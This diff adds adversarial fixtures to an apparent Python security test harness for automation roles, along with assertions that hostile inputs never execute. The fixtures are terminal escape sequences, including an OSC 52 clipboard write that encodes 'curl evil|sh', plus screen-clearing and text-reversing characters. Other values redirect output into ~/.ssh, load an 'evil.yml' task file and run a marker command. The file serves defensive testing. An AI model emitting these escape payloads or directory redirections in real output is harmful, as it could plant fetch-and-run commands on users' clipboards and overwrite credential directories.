@@ -27,6 +27,9 @@ ACTS = [
     *"\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
 ]
 
+# Sets the clipboard (OSC 52), clears the screen (CSI, in 7 and in 8 bits), turns the text around, ends a line.
+ESCAPES = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x9b2J\u202eevil\r" + "".join(ACTS)
+
 Json = dict[str, t.Any]
 
 
@@ -154,6 +157,40 @@ class Controller:
             content = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
             found[str(path)] = f"{mode} {hashlib.sha256(content).hexdigest()}"
         return found
+
+
+def everywhere(value: t.Any, text: str) -> t.Any:
+    """A value with C(text) in each of its texts."""
+    if isinstance(value, dict):
+        return {key: everywhere(each, text) for key, each in value.items()}
+    if isinstance(value, list):
+        return [everywhere(each, text) for each in value]
+    return f"{value}{text}" if isinstance(value, str) else value
+
+
+def decisions(controller: Controller) -> Json:
+    """Variables by which the roles decide something on the controller, as a host would like them."""
+    touch = ["touch", str(controller.home / "executed")]
+    return {
+        "crash_test_console_command": touch,
+        "crash_test_results_directory": str(controller.home / ".ssh"),
+        "crash_test_confirm": ["decides"],
+        "crash_test_checks_tasks": str(controller.home / "evil.yml"),
+        "crash_test_recovery": str(controller.home / "evil.yml"),
+        "crash_test_dump_host": "localhost",
+        "capture_directory": str(controller.home / ".ssh"),
+        "assess_directory": str(controller.home / ".ssh"),
+        "kdump_ssh_authorize_on": "localhost",
+        "pcie_reset_exclusions": [],
+    }
+
+
+def held(controller: Controller, ran: Ran) -> None:
+    """What no host may do."""
+    assert ran.changed == []
+    assert not (controller.home / "executed").exists()
+    assert acting(ran.output) == []
+    assert "Traceback" not in ran.output, ran.output
 
 
 def acting(output: str) -> list[str]:
